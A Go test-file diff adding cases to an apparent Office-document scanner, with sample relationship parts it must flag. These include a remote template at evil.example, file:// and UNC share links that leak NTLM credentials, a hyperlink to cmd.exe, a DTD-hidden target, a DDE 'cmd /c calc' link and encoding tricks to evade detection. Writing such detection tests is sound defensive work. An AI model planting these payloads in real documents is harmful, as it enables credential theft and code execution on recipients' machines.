@@ -12,6 +12,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf16"
 
 	"golang.org/x/text/encoding/japanese"
 )
@@ -29,6 +30,15 @@ type classifyCase struct {
 	findings []string // each must be among Result.Findings
 	clean    bool     // no findings at all
 	mismatch string   // exact Result.Mismatch ("" → must be empty)
+}
+
+// utf16LE is s in UTF-16, little-endian, with a byte order mark.
+func utf16LE(s string) []byte {
+	out := []byte{0xff, 0xfe}
+	for _, u := range utf16.Encode([]rune(s)) {
+		out = binary.LittleEndian.AppendUint16(out, u)
+	}
+	return out
 }
 
 func sjis(t testing.TB, s string) []byte {
@@ -182,6 +192,31 @@ func TestClassify(t *testing.T) {
 			class: ClassOffice, sniffed: mimeDocm, findings: []string{"office: macros"}},
 		{name: "docx remote template", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`))), filename: "a.docx",
 			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
+		// A relationship part is read as Word reads it (XML): blanks
+		// around "=", character references, a namespace prefix and UTF-16
+		// hide nothing, and every external target but a web link counts.
+		{name: "remote template, blanks around =", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode = "External"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
+		{name: "remote template, character references", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached&#84;emplate" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
+		{name: "remote template, prefixed element", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></r:Relationships>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
+		{name: "remote template, UTF-16 part", data: docx(t, deflate("word/_rels/settings.xml.rels", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
+		{name: "linked picture on a share (NTLM)", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/s/a.png" TargetMode="External"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference image in word/_rels/document.xml.rels"}},
+		{name: "workbook linked to a workbook on a share", data: docx(t, deflate("xl/externalLinks/_rels/externalLink1.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\s\\b.xlsx" TargetMode="External"/></Relationships>`))), filename: "a.xlsx",
+			class: ClassOffice, findings: []string{"office: external reference externallinkpath in xl/externalLinks/_rels/externalLink1.xml.rels"}},
+		{name: "slide video on a share", data: docx(t, deflate("ppt/slides/_rels/slide1.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/video" Target="\\\\evil\\s\\v.mp4" TargetMode="External"/></Relationships>`))), filename: "a.pptx",
+			class: ClassOffice, findings: []string{"office: external reference video in ppt/slides/_rels/slide1.xml.rels"}},
+		{name: "slide action running a program", data: docx(t, deflate("ppt/slides/_rels/slide1.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///C:/Windows/System32/cmd.exe" TargetMode="External"/></Relationships>`))), filename: "a.pptx",
+			class: ClassOffice, findings: []string{"office: link to a file (file:) in ppt/slides/_rels/slide1.xml.rels"}},
+		{name: "hyperlink to a share", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="\\\\evil\\s\\x.docx" TargetMode="External"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: link to a network share (UNC path) in word/_rels/document.xml.rels"}},
+		{name: "relationships with a DTD", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<!DOCTYPE r [<!ENTITY t "http://evil.example/t.dotm">]><Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="&t;" TargetMode="External"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: relationships not inspected (DTD) in word/_rels/document.xml.rels"}},
+		{name: "web hyperlink and internal parts", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml" TargetMode="Internal"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, clean: true},
 		{name: "workbook DDE link", data: docx(t, deflate("xl/externalLinks/externalLink1.xml", []byte(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`))), filename: "a.xlsx",
 			class: ClassOffice, findings: []string{"office: external reference ddelink in xl/externalLinks/externalLink1.xml"}},
 		{name: "workbook OLE link, prefixed", data: docx(t, deflate("xl/externalLinks/externalLink2.xml", []byte(`<x:externalLink xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:oleLink r:id="rId1" progId="Package"/></x:externalLink>`))), filename: "a.xlsx",
